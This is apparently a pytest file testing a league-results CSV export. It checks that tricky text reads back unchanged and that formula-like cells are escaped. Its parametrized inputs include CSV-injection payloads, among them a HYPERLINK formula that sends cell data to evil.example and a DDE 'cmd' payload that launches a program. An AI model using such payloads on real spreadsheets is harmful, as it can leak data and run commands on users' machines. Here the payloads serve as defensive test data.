"""The league CSV export (issue 27 §4, §7): read back with the csv module, cell for cell; no live formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from bot.leagues.export import FORMULA_STARTS, HEADER, cell, results_csv
from bot.store.leagues import ResultRow

T = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)


def _result(result_id: int, reason: str | None) -> ResultRow:
    return ResultRow(result_id, 1, 1, 100 + result_id, "void", "settled", (11, 12), (1, 2), T, T, reason)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


TRICKY = [
    "players agreed, then left",  # a comma
    'he said "gg" and left',  # quotes
    "line one\nline two\r\nline three",  # line breaks
    'all, of "them"\n,,\n""',
    "",
    "plain",
    "résumé — ünïcödé 🎲",
]


def test_commas_quotes_and_line_breaks_read_back_as_written() -> None:
    text = results_csv([_result(i, reason) for i, reason in enumerate(TRICKY, 1)])
    rows = _read(text)
    assert rows[0] == list(HEADER)
    body = rows[1:]
    assert len(body) == 2 * len(TRICKY)  # one line per member and game, whatever the reason holds
    assert [r[HEADER.index("reason")] for r in body[::2]] == TRICKY
    assert [r[HEADER.index("user_id")] for r in body[:2]] == ["11", "12"]
    assert all(len(r) == len(HEADER) for r in body)


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3",
                                    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\n=2+2"])
def test_a_reason_that_looks_like_a_formula_is_text(reason: str) -> None:
    (row,) = _read(results_csv([ResultRow(1, 1, 1, 1, "void", "settled", (11,), (1,), T, T, reason)]))[1:]
    got = row[HEADER.index("reason")]
    assert got == "'" + reason  # shown as text, nothing lost
    assert all(not c.startswith(FORMULA_STARTS) for c in row)


def test_only_text_that_starts_like_a_formula_changes() -> None:
    assert [cell(v) for v in ("a=b", "1-2", " =x", "", 7, -3)] == ["a=b", "1-2", " =x", "", 7, -3]
    assert [cell(v) for v in FORMULA_STARTS] == ["'" + v for v in FORMULA_STARTS]
